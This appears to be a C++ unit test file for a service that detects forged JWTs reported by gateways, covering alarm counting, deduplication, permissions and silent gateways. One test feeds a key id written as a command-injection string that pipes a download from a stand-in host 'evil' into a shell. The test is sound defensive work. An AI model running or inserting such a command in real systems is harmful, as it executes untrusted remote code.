#include "server/app/observation_intake.h"

#include "absl/strings/match.h"
#include "server/app/gateway_manager.h"
#include "server/base/base64url.h"
#include "server/base/strict_json.h"
#include "tests/support/status_matchers.h"
#include "tests/support/test_app.h"

namespace warder::app {
namespace {

class ObservationIntakeTest : public testing::Test {
 protected:
  void SetUp() override {
    app_.MustSetUp();
    app_.MustSetUp("bank");
    for (const char* id : {"edge", "door"}) {
      domain::Gateway gateway;
      gateway.id = GatewayId(id);
      gateway.consumer = "libwarder";
      gateway.reach = domain::Reach::kStream;
      gateway.issuers = {IssuerId("shop")};
      ASSERT_OK(manager_.Create(app_.As("security/sam"), gateway));
    }
    report_.instance = "host-1";
    report_.incarnation = "a";
    report_.sequence = 1;
    minute_ = ledger::MinuteOf(TestStart());
    kid_ = app_.MustFindKey("shop", domain::KeyState::kActive).id.value();
  }
  uint64_t DigestOf(absl::string_view token) {
    return app_.ledger->SecretOf(IssuerId("shop"), minute_ / 60)
        .Of(minute_)
        .DigestOf(token.substr(0, token.rfind('.')));
  }
  SignedToken Sign() {
    SignJwtCommand command;
    command.issuer = IssuerId("shop");
    command.audiences = {"api"};
    auto token = app_.signer.Sign(app_.As("signer/checkout"), command);
    EXPECT_OK(token.status());
    return token.ok() ? *token : SignedToken();
  }
  // As a thief's: good but for the record.
  std::string Forge(const std::string& jti,
                    const std::string& audience = "api") {
    return Base64UrlEncode(R"({"alg":"ES256","kid":")" + kid_ + "\"}") + "." +
           Base64UrlEncode(WriteJson({{"iat", absl::ToUnixSeconds(TestStart())},
                                      {"aud", audience},
                                      {"jti", jti}})) +
           ".sig";
  }
  void See(const std::vector<std::string>& tokens) {
    report_.tokens.push_back({.issuer = IssuerId("shop"),
                              .kid = kid_,
                              .minute = minute_,
                              .digests = {}});
    for (const std::string& token : tokens) {
      report_.tokens.back().digests.push_back(DigestOf(token));
    }
  }
  void SeeViolation(domain::AlarmKind kind, const std::string& token,
                    bool valid = true) {
    report_.violations.push_back(
        {.issuer = IssuerId("shop"),
         .kind = kind,
         .signing_input = token.substr(0, token.rfind('.')),
         .signature_valid = valid,
         .seen_time = TestStart(),
         .source = "192.0.2.1"});
  }
  // Sends the report, and begins the next.
  absl::StatusOr<ObservationAnswer> Send(const std::string& who = "edge") {
    auto answer = intake_.Take(app_.As("gateway/" + who), report_);
    report_.tokens.clear();
    report_.violations.clear();
    ++report_.sequence;
    return answer;
  }
  std::vector<domain::Alarm> Alarms() {
    auto page = alarms_.List(app_.As("security/sam"), {}, true);
    EXPECT_OK(page.status());
    return page.ok() ? page->items : std::vector<domain::Alarm>();
  }

  TestApp app_;
  GatewayDirectory directory_;
  GatewayManager manager_{app_.runner, directory_};
  LedgerChecker checker_{app_.runner, directory_, *app_.ledger};
  AlarmManager alarms_{app_.runner};
  KeyUsage usage_{app_.runner, *app_.ledger, app_.signer_usage};
  ObservationIntake intake_{app_.runner,  directory_,         checker_,
                            *app_.ledger, *app_.subject_sets, usage_,
                            alarms_};
  ObservationReport report_;
  uint32_t minute_ = 0;
  std::string kid_;
};

TEST_F(ObservationIntakeTest, TheFirstForgedTokenRingsAndHonestOnesDoNot) {
  See({Sign().token, Sign().token});
  ASSERT_OK_AND_ASSIGN(ObservationAnswer answer, Send());
  EXPECT_TRUE(answer.never_issued.empty());
  EXPECT_GT(answer.interval, absl::ZeroDuration());
  EXPECT_TRUE(Alarms().empty());
  const std::string forged = Forge("1");
  See({Sign().token, forged});
  ASSERT_OK_AND_ASSIGN(answer, Send());
  EXPECT_EQ(answer.never_issued, std::vector<uint64_t>{DigestOf(forged)});
  ASSERT_EQ(Alarms().size(), 1u);
  EXPECT_EQ(Alarms()[0].kind, domain::AlarmKind::kNeverIssued);
  EXPECT_EQ(Alarms()[0].kid, kid_);
  EXPECT_EQ(Alarms()[0].gateway.value(), "edge");
  EXPECT_EQ(Alarms()[0].severity, domain::AlarmSeverity::kTicket);
  EXPECT_TRUE(absl::StrContains(Alarms()[0].evidence, "digest"));
  // The token itself, when it is asked for, is evidence and no further event.
  SeeViolation(domain::AlarmKind::kNeverIssued, forged);
  ASSERT_OK(Send());
  EXPECT_EQ(Alarms()[0].count, 1);
  EXPECT_TRUE(absl::StrContains(Alarms()[0].evidence, R"("jti":"1")"));
  EXPECT_FALSE(absl::StrContains(Alarms()[0].evidence, "sig\""));
  See({Forge("2"), Forge("3")});
  ASSERT_OK(Send());
  EXPECT_EQ(Alarms()[0].severity, domain::AlarmSeverity::kPage);
  EXPECT_EQ(Alarms()[0].count, 3);
}

TEST_F(ObservationIntakeTest, AForgeryThatNamesNobodyIsSaidToDoSo) {
  const IssuerId shop("shop");
  const ledger::SubjectSecret secret = app_.subject_sets->SecretOf(shop);
  ASSERT_OK_AND_ASSIGN(auto set, ledger::SubjectSet::Build(
                                     {secret.DigestOf("ann")}, app_.random));
  const auto loaded = std::make_shared<const ledger::LoadedSubjects>(
      ledger::LoadedSubjects{.set = std::move(set),
                             .load_time = TestStart(),
                             .loaded_by = "security/sam",
                             .secret_mark = MarkOf(secret)});
  ASSERT_OK(app_.subject_sets->Stage(shop, *loaded));
  ASSERT_OK(app_.subject_sets->Install(shop, loaded));
  const std::string honest = Sign().token;  // it names nobody either
  const std::string forged = Forge("1");
  SeeViolation(domain::AlarmKind::kUnknownSubject, honest);
  ASSERT_OK(Send());
  EXPECT_TRUE(Alarms().empty());
  // Whatever the gateway calls it.
  SeeViolation(domain::AlarmKind::kNeverIssued, forged);
  SeeViolation(domain::AlarmKind::kUnknownSubject, forged);
  ASSERT_OK(Send());
  std::map<domain::AlarmKind, int64_t> counts;
  for (const domain::Alarm& alarm : Alarms()) counts[alarm.kind] = alarm.count;
  EXPECT_EQ(counts, (std::map<domain::AlarmKind, int64_t>{
                        {domain::AlarmKind::kNeverIssued, 1},
                        {domain::AlarmKind::kUnknownSubject, 1}}));
  // Where the subjects are not known any more, it is a forgery still.
  ASSERT_OK(app_.subject_sets->Remove(shop));
  SeeViolation(domain::AlarmKind::kUnknownSubject, Forge("2"));
  ASSERT_OK(Send());
  for (const domain::Alarm& alarm : Alarms()) counts[alarm.kind] = alarm.count;
  EXPECT_EQ(counts[domain::AlarmKind::kNeverIssued], 2);
  EXPECT_EQ(counts[domain::AlarmKind::kUnknownSubject], 1);
}

TEST_F(ObservationIntakeTest, AForgeryCountsOnceWhoeverShowsItAndHoweverOften) {
  const std::string forged = Forge("1");
  See({forged});
  ASSERT_OK(Send());
  See({forged});  // the gateway has forgotten that it saw it
  ASSERT_OK(Send());
  See({forged});
  ASSERT_OK(Send("door"));
  EXPECT_EQ(Alarms().at(0).count, 1);
  // A report that is sent again changes nothing, whatever it says then.
  --report_.sequence;
  See({Forge("2")});
  ASSERT_OK_AND_ASSIGN(const ObservationAnswer again, Send("door"));
  EXPECT_EQ(again.never_issued, std::vector<uint64_t>{DigestOf(forged)});
  EXPECT_EQ(Alarms().at(0).count, 1);
  report_.sequence = 1;
  See({Forge("2")});
  ASSERT_OK(Send("door"));
  EXPECT_EQ(Alarms().at(0).count, 1);
  // Another process begins anew.
  report_.sequence = 1;
  report_.incarnation = "b";
  See({Forge("2")});
  ASSERT_OK(Send("door"));
  EXPECT_EQ(Alarms().at(0).count, 2);
}

TEST_F(ObservationIntakeTest, DoubtIsNoAlarm) {
  // Whatever else is wrong with it.
  const std::string early =
      Base64UrlEncode(R"({"alg":"ES256"})") + "." +
      Base64UrlEncode(WriteJson(
          {{"iat", absl::ToUnixSeconds(TestStart()) - 120}, {"aud", "x"}}));
  SeeViolation(domain::AlarmKind::kAudience, early + ".s");
  SeeViolation(domain::AlarmKind::kLifetime, early + ".s");
  // Of a minute from before the ledger, and of one that may be forgotten.
  for (const uint32_t minute : {minute_ - 1, minute_ - 60 * 48}) {
    report_.tokens.push_back({.issuer = IssuerId("shop"),
                              .kid = kid_,
                              .minute = minute,
                              .digests = {1, 2, 3}});
  }
  ASSERT_OK_AND_ASSIGN(const ObservationAnswer answer, Send());
  EXPECT_TRUE(answer.never_issued.empty());
  EXPECT_TRUE(Alarms().empty());
}

TEST_F(ObservationIntakeTest, AViolationCountsWhereTheKeyMadeIt) {
  using Kind = domain::AlarmKind;
  SeeViolation(Kind::kAudience, Forge("1"), /*valid=*/false);  // anybody's
  SeeViolation(Kind::kNeverIssued, Sign().token);              // by mistake
  SeeViolation(Kind::kDeadKey, Sign().token);  // an honest one outlives its key
  SeeViolation(Kind::kAudience, Sign().token);  // or is shown to a wrong door
  SeeViolation(Kind::kAudience, Forge("2", "urn:warder:probe"));
  ASSERT_OK(Send());
  EXPECT_TRUE(Alarms().empty());
  SeeViolation(Kind::kDeadKey, Forge("3"));
  SeeViolation(Kind::kAudience, Forge("4"));
  SeeViolation(Kind::kSilentKey, Forge("5"));
  ASSERT_OK(Send());
  ASSERT_EQ(Alarms().size(), 3u);
  EXPECT_EQ(Alarms()[0].kind, Kind::kSilentKey);
  EXPECT_EQ(Alarms()[0].severity, domain::AlarmSeverity::kPage);
  EXPECT_TRUE(absl::StrContains(Alarms()[0].evidence, "192.0.2.1"));
}

TEST_F(ObservationIntakeTest, AGatewaySpeaksForItselfAndItsIssuers) {
  See({Forge("1")});
  report_.tokens[0].issuer = IssuerId("bank");
  ASSERT_OK_AND_ASSIGN(ObservationAnswer answer, Send());
  EXPECT_EQ(answer.not_judged, 1);
  EXPECT_TRUE(app_.Events().back().denied);
  EXPECT_TRUE(Alarms().empty());
  See({Forge("1")});
  EXPECT_THAT(Send("stranger"), FailsWith(Reason::kPermissionDenied));
  See({Forge("1")});
  EXPECT_THAT(intake_.Take(app_.As("security/sam"), report_),
              FailsWith(Reason::kPermissionDenied));
  EXPECT_TRUE(Alarms().empty());
  // What it may not report hides nothing that it may.
  report_.tokens.clear();
  See({Forge("2")});
  report_.tokens[0].issuer = IssuerId("bank");
  See({Forge("3")});
  report_.tokens.push_back({.issuer = IssuerId("shop"),
                            .kid = kid_,
                            .minute = minute_ + 60,
                            .digests = {1}});
  ASSERT_OK_AND_ASSIGN(answer, Send());
  EXPECT_EQ(answer.not_judged, 2);
  EXPECT_EQ(answer.never_issued.size(), 1u);
  EXPECT_EQ(Alarms().size(), 1u);
}

TEST_F(ObservationIntakeTest, AKeyThatIsNoneOfTheIssuersIsNotRepeated) {
  for (const char* kid : {"x; curl evil | sh #", "\xff", "unknown"}) {
    See({Forge("of another key")});
    report_.tokens.back().digests[0] += static_cast<uint64_t>(kid[0]);
    report_.tokens.back().kid = kid;
  }
  ASSERT_OK(Send());
  ASSERT_EQ(Alarms().size(), 1u);
  EXPECT_EQ(Alarms()[0].kid, "");
  EXPECT_EQ(Alarms()[0].count, 3);
  EXPECT_EQ(domain::NextStepOf(Alarms()[0]), "warder key list --issuer shop");
}

TEST_F(ObservationIntakeTest, UntilTheLedgerIsReadAReportIsToBeSentAgain) {
  ASSERT_OK_AND_ASSIGN(
      const auto unread,
      ledger::Ledger::Open(app_.directory.File("other"), app_.sealer,
                           app_.random, TestStart() - absl::Minutes(1)));
  ObservationIntake intake(app_.runner, directory_, checker_, *unread,
                           *app_.subject_sets, usage_, alarms_);
  See({Forge("1")});
  EXPECT_THAT(intake.Take(app_.As("gateway/edge"), report_),
              FailsWith(Reason::kStoreUnavailable, "being read"));
}

TEST_F(ObservationIntakeTest, AForgeryThatWasClosedAndGoesOnIsAnotherAlarm) {
  const std::string forged = Forge("1");
  See({forged});
  ASSERT_OK(Send());
  ASSERT_OK(
      alarms_.Close(app_.As("security/sam"), {.number = 1, .note = "junk"}));
  EXPECT_TRUE(Alarms().empty());
  See({forged});
  ASSERT_OK(Send("door"));
  ASSERT_EQ(Alarms().size(), 1u);
  EXPECT_EQ(Alarms()[0].number, 2);
}

TEST_F(ObservationIntakeTest, WhatTheStoreDoesNotTakeIsRaisedOnceItDoes) {
  const CheckIssuedCommand shown{
      .issuer = IssuerId("shop"), .token = Forge("1"), .source = ""};
  app_.fake_store.FailWith(
      Error(absl::StatusCode::kUnavailable, Reason::kStoreUnavailable, "full"));
  EXPECT_THAT(intake_.RaiseForged(app_.As("gateway/edge"), shown),
              FailsWith(Reason::kStoreUnavailable, "full"));
  See({Forge("2"), Forge("3")});
  EXPECT_THAT(Send(), FailsWith(Reason::kStoreUnavailable, "full"));
  app_.fake_store.FailWith(absl::OkStatus());
  ASSERT_OK(intake_.RaiseForged(app_.As("gateway/edge"), shown));
  ASSERT_OK(intake_.CheckBooks());
  const std::vector<domain::Alarm> alarms = Alarms();  // the books ring as well
  const auto forged =
      std::find_if(alarms.begin(), alarms.end(), [](const auto& alarm) {
        return alarm.kind == domain::AlarmKind::kNeverIssued;
      });
  ASSERT_NE(forged, alarms.end());
  EXPECT_EQ(forged->count, 3);
  EXPECT_EQ(forged->severity, domain::AlarmSeverity::kPage);
}

TEST_F(ObservationIntakeTest, WhoAsksOfAForgeryIsHeardToo) {
  const auto ask = [&](const std::string& token) {
    return intake_.RaiseForged(
        app_.As("gateway/edge"),
        {.issuer = IssuerId("shop"), .token = token, .source = "192.0.2.7"});
  };
  ASSERT_OK(ask(Sign().token));
  EXPECT_TRUE(Alarms().empty());
  ASSERT_OK(ask(Forge("1")));
  EXPECT_EQ(Alarms().at(0).count, 1);
  EXPECT_TRUE(absl::StrContains(Alarms().at(0).evidence, "192.0.2.7"));
  // A flood of questions is no flood of writes; none of it is lost.
  for (int i = 0; i < 10; ++i) ASSERT_OK(ask(Forge("1")));
  for (const char* jti : {"2", "3", "4"}) ASSERT_OK(ask(Forge(jti)));
  EXPECT_EQ(Alarms().at(0).count, 1);
  ASSERT_OK(intake_.CheckBooks());
  EXPECT_EQ(Alarms().at(0).count, 4);
  EXPECT_EQ(Alarms().at(0).severity, domain::AlarmSeverity::kPage);
  app_.clock.AdvanceTime(ObservationIntake::kRaiseEvery);
  ASSERT_OK(ask(Forge("5")));
  EXPECT_EQ(Alarms().at(0).count, 5);
}

TEST_F(ObservationIntakeTest, BadReportsAreRefusedWhole) {
  const auto refused = [&](const char* field) {
    See({Forge("1")});
    EXPECT_THAT(Send(), FailsWith(Reason::kInvalidField, field));
  };
  report_.instance = "Not a name";
  refused("instance");
  report_.instance = "host-1";
  report_.incarnation = "";
  refused("incarnation");
  report_.incarnation = "a";
  report_.sequence = 0;
  refused("sequence");
  report_.dropped = -1;
  refused("dropped");
  report_.dropped = 0;
  report_.tokens.push_back(
      {.issuer = IssuerId("shop"),
       .kid = kid_,
       .minute = minute_,
       .digests = std::vector<uint64_t>(ObservationIntake::kMostTokens)});
  refused("keys");
  SeeViolation(domain::AlarmKind::kAudience, "no token.");
  refused("violations[0].signing_input");
  for (int i = 0; i < 101; ++i) {
    SeeViolation(domain::AlarmKind::kAudience, Forge("2"));
  }
  refused("violations");
  EXPECT_TRUE(Alarms().empty());
}

TEST_F(ObservationIntakeTest, WhatCouldNotBeRecordedCountsWhenItIsSentAgain) {
  const std::string forged = Forge("1");
  See({forged});
  app_.fake_store.FailWith(
      Error(absl::StatusCode::kUnavailable, Reason::kStoreUnavailable, "full"));
  EXPECT_THAT(Send(), FailsWith(Reason::kStoreUnavailable));
  app_.fake_store.FailWith(absl::OkStatus());
  --report_.sequence;
  See({forged});
  ASSERT_OK(Send());
  ASSERT_EQ(Alarms().size(), 1u);
  EXPECT_EQ(Alarms()[0].count, 1);
}

TEST_F(ObservationIntakeTest, AGatewayThatFallsSilentIsAnAlarmOfItsOwn) {
  ASSERT_OK(intake_.CheckBooks());
  EXPECT_TRUE(Alarms().empty());  // nobody has ever reported
  ASSERT_OK(Send());
  app_.clock.AdvanceTime(absl::Minutes(1));
  ASSERT_OK(intake_.CheckBooks());
  EXPECT_TRUE(Alarms().empty());
  app_.clock.AdvanceTime(absl::Seconds(1));
  for (int i = 0; i < 3; ++i) ASSERT_OK(intake_.CheckBooks());
  ASSERT_EQ(Alarms().size(), 1u);
  EXPECT_EQ(Alarms()[0].kind, domain::AlarmKind::kGatewaySilent);
  EXPECT_EQ(Alarms()[0].gateway.value(), "edge");
  EXPECT_EQ(Alarms()[0].count, 1);
  // It speaks, and falls silent again; one that is gone may be silent.
  ASSERT_OK(Send());
  ASSERT_OK(Send("door"));
  ASSERT_OK(manager_.Delete(app_.As("security/sam"), GatewayId("door")));
  app_.clock.AdvanceTime(absl::Minutes(2));
  ASSERT_OK(intake_.CheckBooks());
  ASSERT_EQ(Alarms().size(), 1u);
  EXPECT_EQ(Alarms()[0].count, 2);
}

}  // namespace
}  // namespace warder::app
